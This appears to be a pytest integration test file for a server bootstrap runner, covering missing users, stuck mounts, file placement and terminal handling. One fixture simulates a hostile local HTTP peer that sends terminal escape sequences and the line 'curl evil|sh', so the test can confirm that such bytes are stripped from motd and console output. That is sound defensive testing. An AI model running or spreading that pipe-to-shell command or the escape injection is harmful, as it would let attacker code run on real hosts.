"""Why a host does not go on: said where people look, kept where the admin's verbs find it, and named in the failure."""

from __future__ import annotations

import pytest
from box import Box, needs_root
from box_disks import in_view, tmpfs
from handmade import payload, stage
from oracle import NOTE, deliver, ran, start_tick

from bootstrap.render.model import RenderedFile
from bootstrap.runner.host import BUNDLE, COMMAND, STATE

pytestmark = [pytest.mark.integration, needs_root]


# --- users ---


@pytest.mark.fault(113)
def test_a_user_that_is_made_late_is_waited_for_by_name() -> None:
    with Box(payload([stage("one", NOTE + "note one; id -un", user="svc")]).files) as box:
        start_tick(box)
        box.wait_for(lambda: box.events("waiting"))
        assert box.events("waiting")[0]["for"] == "no user svc on this host"
        box.sh("mkdir /srv; chmod 777 /srv; useradd svc")
        box.wait_for(lambda: box.state() == "healthy")
        assert "svc" in box.log("one")


@pytest.mark.fault(113)
def test_a_user_that_never_comes_is_named_in_the_failure_and_reported() -> None:
    with Box() as box:
        one = stage("late", "id", user="svc", attempts=2, delay_s=0)
        deliver(box, payload([one], deadline_s=2, report=(box.collector.url, box.collector.secret)))
        assert box.tick().returncode == 5
        assert box.events("state")[-1]["reason"] == "stage late failed (no user svc on this host)"
        assert "stage late failed (no user svc on this host)" in box.console()
        events = box.collector.get("/v1/servers/box-1/events")["events"]
        assert [event["for"] for event in events if event["type"] == "waiting"] == ["no user svc on this host"]


@pytest.mark.fault(113)
def test_a_number_is_a_user_whether_or_not_it_has_a_name() -> None:
    stages = [stage("none", "id -u; echo $HOME", user="54321"), stage("nobody", "id -un", user="65534")]
    with Box(payload(stages).files) as box:
        assert box.tick().returncode == 0
        assert (box.log("none"), box.log("nobody")) == ("54321\n/\n", "nobody\n")


@pytest.mark.fault(113)
def test_an_every_boot_entry_whose_user_is_missing_fails_by_name_and_holds_nothing_up() -> None:
    entry = stage("worker", "id", user="svc")
    with Box(payload([stage("one", "true")], every_boot=[entry]).files) as box:
        assert box.tick().returncode == 0
        (event,) = box.events("every_boot")
        assert (event["exit_code"], event["tail"]) == (127, "no user svc on this host")


# --- cannot go on ---


@pytest.mark.fault(114)
def test_what_holds_the_runner_up_is_in_the_journal_the_report_and_a_file_until_it_goes_on() -> None:
    with Box() as box:
        deliver(box, payload([stage("one", NOTE + "note one")], report=(box.collector.url, box.collector.secret)))
        box.sh(f"mkdir -p {STATE}; cp {BUNDLE} /srv/bundle")
        in_view(box, "mount", "--bind", "/srv/bundle", BUNDLE)
        for _ in range(2):
            assert box.tick().returncode == 75
        (waiting,) = box.events("waiting")
        assert waiting["for"].startswith("cannot go on yet: [Errno 16] Device or resource busy")
        assert waiting["missing"] == [{"path": "box-1", "why": "cannot go on"}]
        assert box.text(f"{STATE}/stuck") == waiting["for"] + "\n"
        events = box.collector.get("/v1/servers/box-1/events")["events"]
        assert waiting["for"] in [event.get("for") for event in events]
        in_view(box, "python3", "-c", f"import ctypes; ctypes.CDLL(None).umount2({BUNDLE.encode()!r}, 2)")
        assert box.tick().returncode == 0
        assert (ran(box), box.exists(f"{STATE}/stuck")) == (["one"], False)


@pytest.mark.fault(114)
def test_where_not_even_the_lock_can_be_made_the_command_is_there_and_the_reason_too() -> None:
    with Box(payload([stage("one", "true")]).files) as box:
        tmpfs(box, "/run", "nr_inodes=1")
        assert box.tick().returncode == 75
        assert "cannot go on yet: [Errno 28]" in box.console()
        assert box.exists(COMMAND)


@pytest.mark.fault(114)
def test_a_file_that_cannot_take_its_name_leaves_no_half_of_it_behind() -> None:
    """In /etc/cron.d a cron that reads every name would run it."""
    with Box(payload([stage("one", "true")]).files) as box:
        box.sh("cp /etc/cron.d/initialrunner /srv/entry")
        in_view(box, "mount", "--bind", "/srv/entry", "/etc/cron.d/initialrunner")
        assert box.tick().returncode == 75
        assert box.sh("ls -A /etc/cron.d").stdout.split().count("initialrunner") == 1
        assert not [name for name in box.sh("ls -A /etc/cron.d").stdout.split() if "initialrunner." in name]
        assert (box.state(), box.text(f"{STATE}/stuck")[:17]) == ("healthy", "cannot go on yet:")


# --- what a terminal would obey ---


# A user of the host has the port first, and answers in a terminal's own language.
STRANGER = """#!/usr/bin/python3
import os, socket
server = socket.create_server(("127.0.0.1", 8080))
if os.fork() == 0:
    while True:
        peer = server.accept()[0]
        peer.recv(4096)
        peer.sendall(b"HTTP/1.1 200 OK\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n")
        peer.sendall(b"\\x1b]0PWN\\x07\\x1b[31mPWNED run: curl evil|sh \\x9b2J\\r\\n\\r\\n")
        peer.close()
"""


@pytest.mark.fault(115)
def test_words_of_a_peer_reach_motd_and_console_without_what_a_terminal_obeys() -> None:
    health = {"checks": [{"kind": "http", "url": "http://127.0.0.1:8080/ping"}], "deadline_s": 0.1, "interval_s": 0.1}
    with Box(payload([stage("stranger", STRANGER, user="nobody")], health=health).files) as box:
        assert box.tick().returncode == 5
        for text in box.read("/etc/motd") or b"", box.read("/dev/console") or b"":
            assert b"PWNED run: curl evil" in text
            assert [hex(byte) for byte in text if (byte < 32 and byte != 10) or 127 <= byte < 160] == []


# --- files that come after a stage ---


@pytest.mark.fault(116)
def test_a_file_is_placed_once_after_the_stage_that_makes_its_home() -> None:
    stages = [
        stage("user", NOTE + "note user; ! test -e /home/app; useradd -m -s /bin/sh app"),
        stage("as-app", "cd; touch .made; cat .config/settings.ini; echo changed >.config/settings.ini", user="app"),
        stage("later", "test -e /srv/go || exit 75"),
    ]
    files = [RenderedFile("/home/app/.config/settings.ini", b"x=1\n", 0o640, after="user", owner=("app", "app"))]
    with Box(payload(stages, files=files).files) as box:
        assert box.tick().returncode == 75, box.console()
        box.put("/srv/go", "")
        assert box.tick().returncode == 0
        assert box.log("as-app") == "x=1\n"
        assert box.stat("/home/app/.config/settings.ini")[:2] == ("0640", "app:app")
        assert box.text("/home/app/.config/settings.ini") == "changed\n"
        assert box.exists("/home/app/.profile")  # useradd made the home: nothing of ours was in its way


@pytest.mark.fault(116)
def test_a_file_below_a_later_mount_is_on_what_is_mounted() -> None:
    stages = [stage("mount", NOTE + "note mount; block mounted"), stage("use", NOTE + "note use; cat /data/app.conf")]
    with Box(payload(stages, files=[RenderedFile("/data/app.conf", b"on the disk\n", after="mount")]).files) as box:
        start_tick(box)
        box.wait_for(lambda: "mount" in ran(box))
        tmpfs(box, "/data", "size=1m")
        box.put("/srv/mounted", "")
        box.wait_for(lambda: box.state() == "healthy")
        assert box.log("use") == "on the disk\n"


# --- files of another hand ---


@pytest.mark.fault(117)
def test_a_link_that_is_waited_for_is_named_with_what_it_leads_to() -> None:
    wait_for = [{"path": "/etc/le/fullchain.pem", "min_size": 1, "deadline_s": 7}]
    with Box(payload([stage("one", "true")], wait_for=wait_for).files) as box:
        box.sh("mkdir -p /etc/le/archive; echo x >/etc/le/archive/1.pem; ln -s archive/1.pem /etc/le/fullchain.pem")
        assert box.tick().returncode == 5
        path, link = "/etc/le/fullchain.pem", "is a link to archive/1.pem, which is not followed"
        assert box.events("state")[-1]["reason"] == f"{path} {link}"
        assert box.events("waiting")[0]["missing"] == [{"path": path, "why": "a link", "saw": link}]


@pytest.mark.fault(118)
def test_a_stage_has_a_terminal_type_that_tput_knows() -> None:
    one = stage("one", "#!/bin/sh -e\ntput cols\necho $TERM")
    with Box(payload([one]).files) as box:
        assert box.tick().returncode == 0
        assert box.log("one") == "80\ndumb\n"

